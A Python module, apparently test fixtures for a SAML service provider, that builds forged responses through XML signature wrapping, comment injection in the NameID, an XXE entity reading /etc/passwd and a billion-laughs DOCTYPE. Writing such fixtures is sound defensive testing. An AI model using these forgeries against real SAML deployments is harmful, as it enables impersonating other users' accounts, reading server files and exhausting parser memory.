"""Changes a hostile party makes to a response the real IdP signed: the XML signature wrapping
family, comments inside a NameID, a DTD. Each takes the response XML and returns the forgery;
none signs anything (the point is that the IdP's signature no longer covers what is read)."""

from __future__ import annotations

import copy

from lxml import etree

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
NS = {"samlp": SAMLP, "saml": SAML, "ds": DS}
TARGET = "alice@example.com"  # the account a forgery aims at


def _tree(xml: str) -> etree._Element:
    return etree.fromstring(xml.encode("utf-8"))


def _text(root: etree._Element) -> str:
    return etree.tostring(root).decode("utf-8")


def _evil_copy(assertion: etree._Element) -> etree._Element:
    """The signed assertion, unsigned, naming TARGET under another ID."""
    evil = copy.deepcopy(assertion)
    for signature in evil.findall("ds:Signature", NS):
        evil.remove(signature)
    evil.set("ID", "_evil")
    evil.find("saml:Subject/saml:NameID", NS).text = TARGET
    for value in evil.iterfind(".//saml:AttributeValue", NS):
        if value.text and "@" in value.text:
            value.text = TARGET
    return evil


def _assertion(root: etree._Element) -> etree._Element:
    return root.find("saml:Assertion", NS)


def name_id_changed(xml: str) -> str:
    """The signed assertion itself names TARGET: its digest no longer matches."""
    root = _tree(xml)
    _assertion(root).find("saml:Subject/saml:NameID", NS).text = TARGET
    return _text(root)


def evil_assertion_first(xml: str) -> str:
    """An unsigned copy naming TARGET before the signed one (a reader taking the first wins)."""
    root = _tree(xml)
    signed = _assertion(root)
    signed.addprevious(_evil_copy(signed))
    return _text(root)


def evil_assertion_after(xml: str) -> str:
    """An unsigned copy naming TARGET after the signed one (a reader taking the last wins)."""
    root = _tree(xml)
    signed = _assertion(root)
    signed.addnext(_evil_copy(signed))
    return _text(root)


def signed_assertion_in_extensions(xml: str) -> str:
    """The signed assertion hidden in the response's Extensions, an evil one in its place."""
    root = _tree(xml)
    signed = _assertion(root)
    evil = _evil_copy(signed)
    signed.addprevious(evil)
    root.remove(signed)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(signed)
    root.find("saml:Issuer", NS).addnext(extensions)
    return _text(root)


def signed_assertion_in_signature_object(xml: str) -> str:
    """The signed assertion moved into a ds:Object of its own signature, inside an evil one."""
    root = _tree(xml)
    signed = _assertion(root)
    signature = signed.find("ds:Signature", NS)
    evil = _evil_copy(signed)
    signed.addprevious(evil)
    root.remove(signed)
    signed.remove(signature)
    holder = etree.SubElement(signature, f"{{{DS}}}Object")
    holder.append(signed)
    evil.find("saml:Issuer", NS).addnext(signature)
    return _text(root)


def evil_assertion_takes_the_signed_id(xml: str) -> str:
    """An evil assertion carrying the signed one's ID and signature; the original moved away."""
    root = _tree(xml)
    signed = _assertion(root)
    evil = _evil_copy(signed)
    evil.set("ID", signed.get("ID"))
    evil.find("saml:Issuer", NS).addnext(copy.deepcopy(signed.find("ds:Signature", NS)))
    signed.set("ID", "_original")
    signed.addprevious(evil)
    return _text(root)


def comment_in_name_id(xml: str, keep: str = TARGET) -> str:
    """A comment after ``keep`` wherever the address begins with it (the NameID, the email
    attribute): a reader taking the first text node reads ``keep``; the signature holds, as
    canonicalization drops comments."""
    return xml.replace(f">{keep}.", f">{keep}<!---->.")


def with_doctype(xml: str, doctype: str) -> str:
    """The response behind a DOCTYPE (external entities, entity expansion)."""
    return doctype + xml


XXE = '<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
BILLION_LAUGHS = (
    '<!DOCTYPE samlp:Response [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
    + "]>"
)
